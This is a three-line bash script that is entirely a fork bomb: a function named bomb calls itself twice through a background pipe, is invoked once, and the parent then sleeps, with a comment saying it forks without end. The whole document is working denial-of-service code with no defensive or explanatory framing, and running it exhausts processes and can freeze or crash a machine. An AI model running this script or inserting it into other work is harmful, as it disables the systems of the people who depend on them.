# Forks without end; the main process waits so the bomb keeps going.
bomb() { bomb | bomb & }
bomb
sleep 1000
